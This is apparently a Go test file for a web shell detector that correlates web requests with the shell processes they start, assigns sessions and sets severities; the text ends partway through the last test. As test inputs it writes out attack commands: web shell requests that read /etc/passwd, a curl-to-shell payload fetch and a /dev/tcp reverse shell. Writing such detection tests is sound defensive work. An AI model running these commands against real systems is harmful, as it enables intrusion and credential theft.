package detector_test

import (
	"fmt"
	"path"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"webshellbeat/config"
	"webshellbeat/detection"
	"webshellbeat/detection/session"
	"webshellbeat/detector"
	"webshellbeat/hunt"
	"webshellbeat/internal/testfiles"
	"webshellbeat/module/errorlog"
)

const data = "../../shared/data/"

func str(doc map[string]any, p string) string { return detection.LookupString(doc, p) }

func val(doc map[string]any, p string) any { v, _ := detection.Lookup(doc, p); return v }

func ids(doc map[string]any) []string { v, _ := val(doc, "webshell.rule_ids").([]string); return v }

// run hunts paths and returns the final alerts: an updated copy replaces
// the alert it updates, as the hunt command prints them.
func run(t *testing.T, cfg config.Detection, paths ...string) []map[string]any {
	t.Helper()
	det, err := detector.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	var alerts []map[string]any
	byID := map[string]int{}
	_, err = hunt.Run(paths, det, func(doc map[string]any) {
		if of := str(doc, "webshell.update_of"); of != "" {
			if i, ok := byID[of]; ok {
				alerts[i] = doc
				return
			}
		}
		if id := str(doc, "webshell.doc_id"); id != "" {
			byID[id] = len(alerts)
		}
		alerts = append(alerts, doc)
	}, nil)
	if err != nil {
		t.Fatal(err)
	}
	return alerts
}

func sev(doc map[string]any) int { n, _ := val(doc, "event.severity").(int); return n }

// linux-capture: every attack-command request is linked to the shell it
// started, both ways; the upload and use of shell.php is one alert; one
// session per web shell.
func TestLinuxCapture(t *testing.T) {
	alerts := run(t, config.Default(), data+"linux-capture")
	attack := map[string]string{ // url.original -> decoded command
		"/uploads/shell.php?cmd=whoami": "whoami", "/uploads/shell.php?cmd=id": "id", "/uploads/shell.php?cmd=uname+-a": "uname -a",
		"/uploads/shell.php?cmd=cat+%2fetc%2fpasswd": "cat /etc/passwd", "/uploads/shell.php?cmd=ps+aux": "ps aux",
		"/uploads/shell.php?cmd=hostname": "hostname", "/uploads/shell.php?cmd=ls+-la+%2fvar%2fwww": "ls -la /var/www",
		"/uploads/shell.php?cmd=netstat+-an":                                                        "netstat -an",
		"/uploads/shell.php?cmd=bash+-c+%27echo+test+%3e+%2ftmp%2fx%3b+cat+%2ftmp%2fx%27":           "bash -c 'echo test > /tmp/x; cat /tmp/x'",
		"/uploads/shell.php?cmd=sh+-c+%27curl+-s+http%3a%2f%2f127.0.0.1%3a9%2fpayload.sh+%7c+sh%27": "sh -c 'curl -s http://127.0.0.1:9/payload.sh | sh'",
		"/app/login.php?debug=whoami":                                                               "whoami", "/app/login.php?debug=id+-a": "id -a", "/app/login.php?debug=uname+-r": "uname -r",
		"/app/login.php?debug=cat+%2fetc%2fhostname": "cat /etc/hostname",
	}
	reqDoc := map[string]map[string]any{}
	procLinked := map[string]bool{}
	sessions := map[string]map[string]bool{} // script -> session ids
	uploads := 0
	for _, a := range alerts {
		u := str(a, "url.original")
		switch {
		case slices.Contains(ids(a), "2f6c1a4e-8d3b-4f7a-9c2e-5b1d0e7a3c91"):
			uploads++
			if !strings.HasSuffix(str(a, "file.path"), "/uploads/shell.php") || str(a, "webshell.use.kind") != "request" ||
				!strings.HasPrefix(str(a, "webshell.request.url.original"), "/uploads/shell.php?cmd=") || val(a, "webshell.upload.by_webserver") != true {
				t.Errorf("upload alert: file %q use %q request %q by web %v", str(a, "file.path"), str(a, "webshell.use.kind"), str(a, "webshell.request.url.original"), val(a, "webshell.upload.by_webserver"))
			}
			if sev(a) != 99 {
				t.Errorf("upload alert severity %d, want 99 (escalated in its session)", sev(a))
			}
		case u != "":
			reqDoc[u] = a
		case str(a, "webshell.request.url.original") != "":
			r := str(a, "webshell.request.url.original")
			cmd, ok := attack[r]
			if ok && strings.HasSuffix(str(a, "process.command_line"), cmd) {
				procLinked[r] = true
			}
		}
		script := str(a, "url.path")
		if script == "" {
			script = str(a, "webshell.request.url.path")
		}
		if script == "/uploads/shell.php" || script == "/app/login.php" {
			if sessions[script] == nil {
				sessions[script] = map[string]bool{}
			}
			sessions[script][str(a, "webshell.session.id")] = true
		}
	}
	for u, cmd := range attack {
		r := reqDoc[u]
		if r == nil {
			t.Errorf("%s: no request alert", u)
			continue
		}
		cmds, _ := val(r, "webshell.processes.command_line").([]string)
		if !slices.ContainsFunc(cmds, func(c string) bool { return strings.HasSuffix(c, cmd) }) {
			t.Errorf("%s: request lists processes %q, want the shell running %q", u, cmds, cmd)
		}
		if !procLinked[u] {
			t.Errorf("%s: no process alert carries the request", u)
		}
	}
	if uploads != 1 {
		t.Errorf("%d upload-then-execute alerts, want 1", uploads)
	}
	for script, ids := range sessions {
		if len(ids) != 1 {
			t.Errorf("%s: sessions %v, want one", script, ids)
		}
	}
	if len(sessions) != 2 || maps(sessions["/uploads/shell.php"]) == maps(sessions["/app/login.php"]) {
		t.Errorf("sessions %v: want one per web shell", sessions)
	}
	full, lowered := 0, 0
	for _, a := range alerts {
		if sev(a) > 21 {
			full++
		} else {
			lowered++
		}
	}
	t.Logf("linux-capture: %d alerts, %d at full severity, %d lowered by sessions", len(alerts), full, lowered)
}

func maps(m map[string]bool) string {
	for k := range m {
		return k
	}
	return ""
}

// status.php's `sh -c /usr/bin/uptime` is silenced by an exception, or by
// the baseline once learnt, and the attack still alerts.
func TestStatusPageSilenced(t *testing.T) {
	count := func(alerts []map[string]any) (uptime, attack int) {
		for _, a := range alerts {
			switch {
			case strings.Contains(str(a, "process.command_line"), "uptime"):
				uptime++
			case str(a, "webshell.request.url.original") != "" || str(a, "url.original") != "":
				attack++
			}
		}
		return
	}
	_, attack0 := count(run(t, config.Default(), data+"linux-capture"))

	cfg := config.Default()
	cfg.Exceptions = []session.Exception{{CommandLines: []string{"sh -c /usr/bin/uptime"}, Reason: "status page"}}
	if up, attack := count(run(t, cfg, data+"linux-capture")); up != 0 || attack != attack0 || attack == 0 {
		t.Errorf("exception: %d uptime alerts (want 0), %d attack alerts (want %d)", up, attack, attack0)
	}

	// A fields condition tests any field of the alert: a list field
	// matches when one element does, and every field given must match.
	up0, _ := count(run(t, config.Default(), data+"linux-capture"))
	cfg = config.Default()
	cfg.Exceptions = []session.Exception{{Fields: session.FieldGlobs{{Path: "process.args", Globs: []string{"*/UPTIME"}}}}}
	if up, attack := count(run(t, cfg, data+"linux-capture")); up != 0 || attack != attack0 || up0 == 0 {
		t.Errorf("fields exception: %d uptime alerts (want 0 of %d), %d attack alerts (want %d)", up, up0, attack, attack0)
	}
	cfg.Exceptions[0].Fields = append(cfg.Exceptions[0].Fields, session.FieldGlob{Path: "host.name", Globs: []string{"no-such-host"}})
	if up, _ := count(run(t, cfg, data+"linux-capture")); up != up0 {
		t.Errorf("fields exception with a host that differs: %d uptime alerts, want all %d", up, up0)
	}

	cfg = config.Default()
	cfg.Baseline = config.Baseline{Enabled: true, LearningPeriod: 10 * time.Second, Action: "suppress", MaxShapes: 100}
	alerts := run(t, cfg, data+"linux-capture")
	late := 0
	for _, a := range alerts {
		at, _ := a["@timestamp"].(time.Time)
		if strings.Contains(str(a, "process.command_line"), "uptime") && at.Unix() >= 1795633344 {
			late++
		}
		if str(a, "process.command_line") == "sh -c whoami" && str(a, "webshell.baseline") != "new" {
			t.Errorf("attack shell baseline %q, want new", str(a, "webshell.baseline"))
		}
	}
	if _, attack := count(alerts); late != 0 || attack != attack0 {
		t.Errorf("baseline: %d uptime alerts after learning (want 0), %d attack alerts (want %d)", late, attack, attack0)
	}
}

// ProxyLogon: the web shell written under the Exchange web root is linked
// to the w3wp.exe that compiled it and to its cmd.exe; cvtres.exe (ASP.NET
// compilation) raises no high alert.
func TestProxyLogon(t *testing.T) {
	alerts := run(t, config.Default(), data+"OTRF-Security-Datasets/datasets/atomic/windows/persistence/host/proxylogon_ssrf_rce_poc.zip")
	var upload map[string]any
	cmds := 0
	for _, a := range alerts {
		if slices.Contains(ids(a), "2f6c1a4e-8d3b-4f7a-9c2e-5b1d0e7a3c91") {
			upload = a
		}
		if strings.EqualFold(str(a, "process.name"), "cvtres.exe") && sev(a) >= 73 {
			t.Errorf("cvtres.exe raised a severity %d alert", sev(a))
		}
	}
	if upload == nil || !strings.HasSuffix(str(upload, "file.path"), `owa\auth\ohyeah.aspx`) || str(upload, "webshell.use.kind") != "compiled" {
		t.Fatalf("upload alert %v", upload)
	}
	high := 0
	for _, a := range alerts {
		if str(a, "process.name") == "cmd.exe" && str(a, "webshell.webserver.name") == "w3wp.exe" {
			cmds++
			if str(a, "webshell.script.path") != str(upload, "file.path") || str(a, "webshell.session.id") != str(upload, "webshell.session.id") {
				t.Errorf("cmd.exe alert script %q session %q, want %q %q", str(a, "webshell.script.path"), str(a, "webshell.session.id"), str(upload, "file.path"), str(upload, "webshell.session.id"))
			}
			if sev(a) >= 73 {
				high++
			}
		}
	}
	if cmds == 0 {
		t.Fatal("no w3wp.exe -> cmd.exe alert")
	}
	// The upload alert is about the file: the shell's first command after
	// it is still the session's first, raised in full, not lowered as a
	// later step.
	if high == 0 {
		t.Errorf("every w3wp.exe -> cmd.exe alert of the session was lowered below high")
	}
	// The host logs each start twice (Sysmon 1 and Security 4688): one
	// alert per process.
	starts := map[string]int{}
	for _, a := range alerts {
		if pid := val(a, "process.pid"); pid != nil {
			starts[fmt.Sprint(pid, " ", str(a, "process.executable"))]++
		}
	}
	for k, n := range starts {
		if n != 1 {
			t.Errorf("process %s: %d alerts, want 1", k, n)
		}
	}
	if len(starts) != 4 {
		t.Errorf("%d processes alerted on (%v), want 4: two cmd.exe, two whoami.exe", len(starts), starts)
	}
}

// A start logged by Sysmon and by Security 4688 raises one alert; the
// second report is indexed as an event that names the first's source.
func TestDuplicateSources(t *testing.T) {
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	doc := func(provider string, ms int) map[string]any {
		return map[string]any{
			"@timestamp": base.Add(time.Duration(ms) * time.Millisecond),
			"host":       map[string]any{"name": "iis1", "os": map[string]any{"type": "windows"}},
			"event":      map[string]any{"category": []string{"process"}, "type": []string{"start"}, "provider": provider},
			"process": map[string]any{"pid": 700, "executable": `C:\Windows\System32\cmd.exe`, "name": "cmd.exe", "command_line": "cmd.exe /c whoami",
				"parent": map[string]any{"pid": 3700, "executable": `C:\Windows\System32\inetsrv\w3wp.exe`, "name": "w3wp.exe"}},
		}
	}
	sysmon, security, again := doc("Microsoft-Windows-Sysmon", 4), doc("Microsoft-Windows-Security-Auditing", 0), doc("Microsoft-Windows-Sysmon", 5000)
	if v := det.Process(sysmon); v != detector.Alert {
		t.Fatalf("Sysmon report: %v", v)
	}
	if v := det.Process(security); v == detector.Alert || !strings.HasPrefix(str(security, "webshell.tuning.by"), "duplicate: this start of pid 700 raised an alert from Microsoft-Windows-Sysmon at ") {
		t.Errorf("4688 report: verdict %v, tuning %v", v, val(security, "webshell.tuning"))
	}
	if v := det.Process(again); v != detector.Alert {
		t.Errorf("a start 5 s later (pid reused): verdict %v, tuning %v", v, val(again, "webshell.tuning"))
	}
}

// sbousseaden's IIS sample: w3wp.exe -> cmd.exe -> net.exe -> net1.exe
// carries the whole chain.
func TestIISGrandchild(t *testing.T) {
	alerts := run(t, config.Default(), data+"sbousseaden-EVTX-ATTACK-SAMPLES/Lateral Movement/LM_typical_IIS_webshell_sysmon_1_10_traces.evtx")
	for _, a := range alerts {
		if str(a, "process.name") != "net1.exe" {
			continue
		}
		names, _ := val(a, "webshell.ancestry.name").([]string)
		if !slices.Equal(names, []string{"net.exe", "cmd.exe", "w3wp.exe"}) || val(a, "webshell.ancestry.depth") != 3 || str(a, "webshell.webserver.name") != "w3wp.exe" {
			t.Fatalf("net1.exe ancestry %v depth %v root %q", names, val(a, "webshell.ancestry.depth"), str(a, "webshell.webserver.name"))
		}
		if !slices.Contains(ids(a), "3b8f2d6a-5c1e-4a9b-8e7d-2f4c6a1b9d05") {
			t.Errorf("any-depth rule did not fire: %v", ids(a))
		}
		return
	}
	t.Fatal("no net1.exe alert")
}

var base = time.Date(2026, 11, 25, 19, 2, 0, 0, time.UTC)

func shellDoc(sec float64, pid, ppid int, cmd string) map[string]any {
	return map[string]any{
		"@timestamp": base.Add(time.Duration(sec * float64(time.Second))),
		"host":       map[string]any{"name": "web1", "os": map[string]any{"type": "linux"}},
		"event":      map[string]any{"category": []string{"process"}, "type": []string{"start"}, "module": "auditd"},
		"process":    map[string]any{"pid": pid, "parent": map[string]any{"pid": ppid}, "executable": "/usr/bin/dash", "name": "dash", "command_line": cmd},
		"user":       map[string]any{"name": "www-data", "id": "33"},
	}
}

func requestDoc(sec int, url, param string) map[string]any {
	params := map[string]any{}
	if _, query, ok := strings.Cut(url, "?"); ok {
		for _, pair := range strings.Split(query, "&") {
			name, _, _ := strings.Cut(pair, "=")
			params[name] = []string{param}
		}
	}
	return map[string]any{
		"@timestamp": base.Add(time.Duration(sec) * time.Second),
		"host":       map[string]any{"name": "web1"},
		"event":      map[string]any{"category": []string{"web"}, "module": "apache"},
		"url":        map[string]any{"original": url, "path": strings.SplitN(url, "?", 2)[0]},
		"http":       map[string]any{"request": map[string]any{"method": "GET"}, "response": map[string]any{"status_code": 200}},
		"source":     map[string]any{"ip": "203.0.113.9"},
		"webshell":   map[string]any{"url": map[string]any{"param_values": []string{param}, "params": params}},
	}
}

// Either arrival order links the request and the process; the later one
// gets the link in its own document and an updated copy of the earlier
// document is derived.
func TestArrivalOrder(t *testing.T) {
	for _, processFirst := range []bool{false, true} {
		det, err := detector.New(config.Default())
		if err != nil {
			t.Fatal(err)
		}
		req, proc := requestDoc(5, "/x.php?c=id", "id"), shellDoc(5.3, 900, 800, "sh -c id")
		first, second := req, proc
		if processFirst {
			first, second = proc, req
		}
		det.ProcessAll(first)
		_, derived := det.ProcessAll(second)
		if str(proc, "webshell.request.url.original") == "" && !slices.ContainsFunc(derived, func(d detector.Derived) bool {
			return str(d.Doc, "webshell.request.url.original") == "/x.php?c=id"
		}) {
			t.Errorf("processFirst=%v: the process never carries the request", processFirst)
		}
		if val(req, "webshell.processes.count") == nil && !slices.ContainsFunc(derived, func(d detector.Derived) bool {
			return val(d.Doc, "webshell.processes.count") == 1
		}) {
			t.Errorf("processFirst=%v: the request never lists the process", processFirst)
		}
		for _, d := range derived {
			if str(d.Doc, "webshell.update_of") == "" {
				t.Errorf("derived document without update_of: %v", d.Doc)
			}
		}
	}
}

// A process under the web server that raises no alert (ImageMagick's
// convert, run by a resize page on the file the request names) is listed by
// its request whichever comes first. Before, a request that came last
// listed only the processes that had raised an alert, since only those were
// held for it.
func TestArrivalOrderQuietProcess(t *testing.T) {
	for _, processFirst := range []bool{false, true} {
		det, err := detector.New(config.Default())
		if err != nil {
			t.Fatal(err)
		}
		req := requestDoc(5, "/resize.php?f=/tmp/upload/in.png", "/tmp/upload/in.png")
		proc := shellDoc(5.3, 900, 800, "convert /tmp/upload/in.png /tmp/upload/out.jpg")
		proc["process"].(map[string]any)["executable"] = "/usr/bin/convert"
		proc["process"].(map[string]any)["name"] = "convert"
		first, second := req, proc
		if processFirst {
			first, second = proc, req
		}
		det.ProcessAll(first)
		_, derived := det.ProcessAll(second)
		if str(proc, "event.kind") == "alert" {
			t.Fatalf("convert raised an alert: %v", ids(proc))
		}
		listed := func(doc map[string]any) bool {
			return slices.Equal(detection.LookupStrings(doc, "webshell.processes.command_line"), []string{"convert /tmp/upload/in.png /tmp/upload/out.jpg"})
		}
		if !listed(req) && !slices.ContainsFunc(derived, func(d detector.Derived) bool { return listed(d.Doc) }) {
			t.Errorf("processFirst=%v: the request never lists convert (request: %v)", processFirst, val(req, "webshell.processes"))
		}
	}
}

// A restart restores the process table: a worker known before the restart
// still roots the ancestry of a shell seen after it.
func TestRestartWithSavedState(t *testing.T) {
	cfg := config.Default()
	cfg.State.Path = filepath.Join(t.TempDir(), "webshellbeat")
	det, err := detector.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	worker := map[string]any{
		"@timestamp": base, "host": map[string]any{"name": "web1"},
		"event":   map[string]any{"category": []string{"file"}, "type": []string{"change"}},
		"process": map[string]any{"pid": 20926, "parent": map[string]any{"pid": 20359}, "executable": "/usr/sbin/apache2", "name": "apache2"},
	}
	det.ProcessAll(worker)
	if err := det.Save(); err != nil {
		t.Fatal(err)
	}
	det2, err := detector.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	doc := shellDoc(3600, 21000, 20926, "sh -c id")
	det2.ProcessAll(doc)
	if str(doc, "webshell.webserver.name") != "apache2" || str(doc, "process.parent.name") != "apache2" {
		t.Fatalf("after restart: webserver %q parent %q", str(doc, "webshell.webserver.name"), str(doc, "process.parent.name"))
	}
}

// An alert with neither a script nor a web server behind it (a generic
// Sigma rule's) belongs to no session: two on one host keep their
// severity, while two requests of one web shell still share a session and
// the later one is lowered.
func TestSessionsOnlyForWebShells(t *testing.T) {
	dir := t.TempDir()
	write(t, filepath.Join(dir, "generic.yml"), rule(idA, "Credential tools", "secretsdump", "adduser"))
	cfg := config.Default()
	cfg.Rules.Paths = []string{dir}
	det, err := detector.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	first, second := proc("secretsdump", 0), proc("adduser", 10)
	det.Process(first)
	det.Process(second)
	for _, doc := range []map[string]any{first, second} {
		if !slices.Contains(ids(doc), idA) || sev(doc) != 73 || val(doc, "webshell.session") != nil {
			t.Errorf("%s: rules %v, severity %d, session %v; want %s at 73 in no session", str(doc, "process.name"), ids(doc), sev(doc), val(doc, "webshell.session"), idA)
		}
	}
	r1, r2 := requestDoc(20, "/up/x.php?c=id", "id"), requestDoc(30, "/up/x.php?c=uname+-a", "uname -a")
	for _, r := range []map[string]any{r1, r2} {
		r["url"].(map[string]any)["extension"] = "php"
	}
	det.Process(r1)
	det.Process(r2)
	if s1, s2 := str(r1, "webshell.session.id"), str(r2, "webshell.session.id"); s1 == "" || s1 != s2 || sev(r2) >= sev(r1) {
		t.Errorf("web shell requests: sessions %q %q, severities %d %d; want one session, the later lowered", s1, s2, sev(r1), sev(r2))
	}
}

// A session is per site where the log names the site (Apache's
// other_vhosts_access.log, IIS's cs-host): the same URL path on two
// virtual hosts is two scripts, and the second site's first alert keeps
// its severity. A shell that the second site's request started joins that
// site's session.
func TestSessionsPerSite(t *testing.T) {
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	site := func(doc map[string]any, domain string) map[string]any {
		doc["url"].(map[string]any)["domain"] = domain
		doc["url"].(map[string]any)["extension"] = "php"
		return doc
	}
	shop := site(requestDoc(5, "/up/x.php?c=whoami", "whoami"), "shop.example")
	blog := site(requestDoc(60, "/up/x.php?c=id", "id"), "blog.example")
	shell := shellDoc(60.3, 900, 800, "sh -c id")
	later := site(requestDoc(120, "/up/x.php?c=uname+-a", "uname -a"), "Blog.example")
	for _, doc := range []map[string]any{shop, blog, shell, later} {
		det.ProcessAll(doc)
	}
	if s1, s2 := str(shop, "webshell.session.id"), str(blog, "webshell.session.id"); s1 == "" || s2 == "" || s1 == s2 || sev(blog) != sev(shop) {
		t.Errorf("two sites' /up/x.php: sessions %q %q, severities %d %d; want two sessions at one severity", s1, s2, sev(shop), sev(blog))
	}
	if str(shell, "webshell.request.url.original") != "/up/x.php?c=id" || str(shell, "webshell.session.id") != str(blog, "webshell.session.id") {
		t.Errorf("the shell of blog's request: request %q, session %q; want blog's session %q", str(shell, "webshell.request.url.original"), str(shell, "webshell.session.id"), str(blog, "webshell.session.id"))
	}
	if str(later, "webshell.session.id") != str(blog, "webshell.session.id") || sev(later) >= sev(blog) {
		t.Errorf("blog's later request: session %q severity %d; want blog's session %q, lowered from %d", str(later, "webshell.session.id"), sev(later), str(blog, "webshell.session.id"), sev(blog))
	}

	// IIS logs each site in its own W3SVC<n> folder and, by default, names
	// no site in its lines: the folder tells them apart, and s-sitename
	// does when logged.
	if det, err = detector.New(config.Default()); err != nil {
		t.Fatal(err)
	}
	iis := func(sec int, file, siteName string) map[string]any {
		doc := requestDoc(sec, "/aspnet_client/x.aspx?cmd=whoami", "whoami")
		doc["url"].(map[string]any)["extension"] = "aspx"
		doc["log"] = map[string]any{"file": map[string]any{"path": file}}
		if siteName != "" {
			doc["iis"] = map[string]any{"site_name": siteName}
		}
		return doc
	}
	w1, w2 := iis(5, `C:\inetpub\logs\LogFiles\W3SVC1\u_ex261126.log`, ""), iis(6, `C:\inetpub\logs\LogFiles\W3SVC2\u_ex261126.log`, "")
	named := iis(7, "/evidence/iis/u_ex261126.log", "Default Web Site")
	for _, doc := range []map[string]any{w1, w2, named} {
		det.ProcessAll(doc)
	}
	if str(w1, "webshell.session.site") != "w3svc1" || str(w1, "webshell.session.id") == str(w2, "webshell.session.id") || sev(w2) != sev(w1) ||
		str(named, "webshell.session.site") != "default web site" {
		t.Errorf("IIS sites: %q %q %q, sessions %q %q, severities %d %d", str(w1, "webshell.session.site"), str(w2, "webshell.session.site"), str(named, "webshell.session.site"),
			str(w1, "webshell.session.id"), str(w2, "webshell.session.id"), sev(w1), sev(w2))
	}

	// In summary mode, the summary of blog's session names its site.
	cfg := config.Default()
	cfg.Sessions.Mode = "summary"
	if det, err = detector.New(cfg); err != nil {
		t.Fatal(err)
	}
	for _, doc := range []map[string]any{
		site(requestDoc(5, "/up/x.php?c=whoami", "whoami"), "shop.example"),
		site(requestDoc(60, "/up/x.php?c=id", "id"), "blog.example"),
		site(requestDoc(120, "/up/x.php?c=uname+-a", "uname -a"), "blog.example"),
	} {
		det.ProcessAll(doc)
	}
	var summaries []string
	for _, d := range det.Flush() {
		if str(d.Doc, "event.dataset") == "webshellbeat.session" {
			summaries = append(summaries, str(d.Doc, "webshell.session.site")+str(d.Doc, "webshell.script.path"))
		}
	}
	if !slices.Equal(summaries, []string{"blog.example/up/x.php"}) {
		t.Errorf("summary mode: summaries of %v; want one, of blog.example/up/x.php", summaries)
	}
}

// The PHP warnings of one script (log.origin.file.name) are one session:
// the first at its severity, the later ones lowered; another script's
// warning is another session. Before, each was in no session and all kept
// their severity.
func TestPHPScriptSession(t *testing.T) {
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	var docs []map[string]any
	p := &errorlog.Parser{Server: errorlog.PHP}
	for _, line := range []string{
		"[26-Nov-2026 13:52:37 UTC] PHP Warning:  system(): Unable to fork [id] in /var/www/html/up/x.php on line 3",
		"[26-Nov-2026 13:52:38 UTC] PHP Warning:  exec(): Unable to fork [whoami] in /var/www/html/up/x.php on line 4",
		"[26-Nov-2026 13:52:39 UTC] PHP Warning:  system(): Unable to fork [id] in /var/www/html/up/y.php on line 3",
	} {
		doc, err := p.Parse(line)
		if err != nil {
			t.Fatal(err)
		}
		det.ProcessAll(doc)
		docs = append(docs, doc)
	}
	x1, x2, y := docs[0], docs[1], docs[2]
	if len(ids(x1)) == 0 || str(x1, "webshell.script.path") != "/var/www/html/up/x.php" {
		t.Fatalf("first warning: rules %v, script %q", ids(x1), str(x1, "webshell.script.path"))
	}
	if s := str(x1, "webshell.session.id"); s == "" || s != str(x2, "webshell.session.id") || sev(x2) >= sev(x1) {
		t.Errorf("x.php's warnings: sessions %q %q, severities %d %d; want one session, the later lowered", s, str(x2, "webshell.session.id"), sev(x1), sev(x2))
	}
	if str(y, "webshell.session.id") == str(x1, "webshell.session.id") || sev(y) != sev(x1) {
		t.Errorf("y.php's warning: session %q severity %d; want its own session at %d", str(y, "webshell.session.id"), sev(y), sev(x1))
	}
}

// A command in a POST body (ModSecurity's audit log) links the request to
// the shell it started as a query's command does: linux-capture's
// "?cmd=whoami" sent instead as a form, at the same time, beside the
// capture's audit.log.
func TestBodyCommandLinksProcess(t *testing.T) {
	entry := "--0a1b2c3d-A--\n[25/Nov/2026:19:02:24 +0000] AbCdEf 127.0.0.1 40000 127.0.0.1 80\n" +
		"--0a1b2c3d-B--\nPOST /uploads/shell.php HTTP/1.1\nHost: localhost\nContent-Type: application/x-www-form-urlencoded\n\n" +
		"--0a1b2c3d-C--\ncmd=whoami\n--0a1b2c3d-F--\nHTTP/1.1 200 OK\n\n--0a1b2c3d-Z--\n"
	modsecLog := filepath.Join(t.TempDir(), "modsec_audit.log")
	testfiles.Write(t, modsecLog, entry)
	alerts := run(t, config.Default(), modsecLog, data+"linux-capture/audit.log")
	var request map[string]any
	linked := false
	for _, a := range alerts {
		if str(a, "event.module") == "modsecurity" {
			request = a
		}
		if str(a, "webshell.request.url.original") == "/uploads/shell.php" && strings.HasSuffix(str(a, "process.command_line"), "whoami") {
			linked = true
		}
	}
	if request == nil {
		t.Fatal("no alert on the POST")
	}
	cmds, _ := val(request, "webshell.processes.command_line").([]string)
	if !slices.ContainsFunc(cmds, func(c string) bool { return strings.HasSuffix(c, "whoami") }) || !linked {
		t.Errorf("POST cmd=whoami: request lists processes %q, process alert carries it %v; want both ways", cmds, linked)
	}
}

// Requests are held for their updated copies per host, as the correlator
// holds them (max_pending each): a host's request still pending in the
// correlator keeps its document when other hosts are busy. Three hosts of
// 91 requests each with max_pending 100; the shell on web1 must carry its
// request, the first of them.
func TestHeldRequestsPerHost(t *testing.T) {
	cfg := config.Default()
	cfg.Correlation.MaxPending = 100
	det, err := detector.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	hosts := []string{"web1", "web2", "web3"}
	onHost := func(doc map[string]any, h string) map[string]any {
		doc["host"].(map[string]any)["name"] = h
		return doc
	}
	for _, h := range hosts {
		det.ProcessAll(onHost(requestDoc(5, "/x.php?c=id", "id"), h))
	}
	for i := range 90 {
		for _, h := range hosts {
			det.ProcessAll(onHost(requestDoc(5, fmt.Sprintf("/page/%d?q=%d", i, i), strconv.Itoa(i)), h))
		}
	}
	proc := onHost(shellDoc(5.5, 900, 800, "sh -c id"), "web1")
	det.ProcessAll(proc)
	if got := str(proc, "webshell.request.url.original"); got != "/x.php?c=id" {
		t.Errorf("the shell carries request %q, want /x.php?c=id (linked: %v)", got, val(proc, "webshell.request"))
	}
}

// A long-running shell's alert is held until its request is logged, which
// for a reverse shell comes minutes later: the requests of a busy site in
// between (more than max_pending) must not push it out, or the link the
// correlator still makes shows in no document.
func TestLongShellOutlivesBusyRequests(t *testing.T) {
	const cmd = "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"
	cfg := config.Default()
	cfg.Correlation.MaxPending = 100
	det, err := detector.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	shell := shellDoc(5, 900, 800, "sh -c "+cmd)
	det.ProcessAll(shell)
	if str(shell, "event.kind") != "alert" {
		t.Fatalf("the reverse shell raised no alert: %v", ids(shell))
	}
	for i := range 300 { // 5 requests a second for a minute
		det.ProcessAll(requestDoc(6+i/5, fmt.Sprintf("/page/%d", i), ""))
	}
	req := requestDoc(66, "/up/x.php?c=cmd", cmd)
	req["event"].(map[string]any)["module"] = "nginx" // logged when it ended
	_, derived := det.ProcessAll(req)
	if val(req, "webshell.processes.count") != 1 {
		t.Errorf("the request lists no shell: %v", val(req, "webshell.processes"))
	}
	if !slices.ContainsFunc(derived, func(d detector.Derived) bool {
		return str(d.Doc, "webshell.request.url.original") == "/up/x.php?c=cmd"
	}) {
		t.Errorf("no updated copy of the shell's alert carries its request (%d derived)", len(derived))
	}
}

// A reverse shell's commands run before nginx logs its request: when the
// request comes, the command's alert gets an updated copy carrying it, and
// the request lists the shell alone.
func TestLongShellKidsGetTheRequest(t *testing.T) {
	const cmd = "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	det.ProcessAll(shellDoc(5, 900, 800, "sh -c "+cmd))
	kid := shellDoc(20, 901, 900, "cat /etc/passwd")
	det.ProcessAll(kid)
	if str(kid, "event.kind") != "alert" || str(kid, "webshell.request.url.original") != "" {
		t.Fatalf("the shell's command: kind %q, request %q; want an alert without a request yet", str(kid, "event.kind"), str(kid, "webshell.request.url.original"))
	}
	det.ProcessAll(requestDoc(40, "/other", "")) // the host's time moves on
	req := requestDoc(66, "/up/x.php?c=cmd", cmd)
	req["event"].(map[string]any)["module"] = "nginx"
	_, derived := det.ProcessAll(req)
	if n := val(req, "webshell.processes.count"); n != 1 {
		t.Errorf("the request lists %v processes, want the shell alone", n)
	}
	if !slices.ContainsFunc(derived, func(d detector.Derived) bool {
		return str(d.Doc, "process.command_line") == "cat /etc/passwd" && str(d.Doc, "webshell.request.url.original") == "/up/x.php?c=cmd"
	}) {
		t.Errorf("no updated copy of the command's alert carries the request (%d derived)", len(derived))
	}
}

// Live, a command is decided before the access log writes its request, so
// its session cannot be its script's: the folder the web server started
// the shell in stands for it. A shell in the upload folder and a backdoor
// at the site's root are two sessions, each with its first command at full
// severity; the upload shell's second command is lowered.
func TestSessionsByShellFolder(t *testing.T) {
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	in := func(doc map[string]any, dir string) map[string]any {
		doc["process"].(map[string]any)["working_directory"] = dir
		return doc
	}
	first := in(shellDoc(5, 900, 800, "sh -c whoami"), "/var/www/html/uploads")
	second := in(shellDoc(6, 901, 800, "sh -c whoami"), "/var/www/html/uploads")
	backdoor := in(shellDoc(7, 902, 800, "sh -c whoami"), "/var/www/html")
	for _, d := range []map[string]any{first, second, backdoor} {
		det.ProcessAll(d)
	}
	if sev(first) <= 21 || sev(second) != 21 || sev(backdoor) <= 21 {
		t.Errorf("severities: upload shell %d then %d, backdoor %d; want full, 21, full", sev(first), sev(second), sev(backdoor))
	}
	if id := str(first, "webshell.session.id"); id == "" || id != str(second, "webshell.session.id") || id == str(backdoor, "webshell.session.id") {
		t.Errorf("sessions: %q %q %q; want the upload shell's two commands in one, the backdoor in another",
			id, str(second, "webshell.session.id"), str(backdoor, "webshell.session.id"))
	}
	// A folder outside the web roots (a Tomcat's home, w3wp's inetsrv)
	// says nothing of the page: such shells, and one whose source gives no
	// folder (Security 4688), share the server's session.
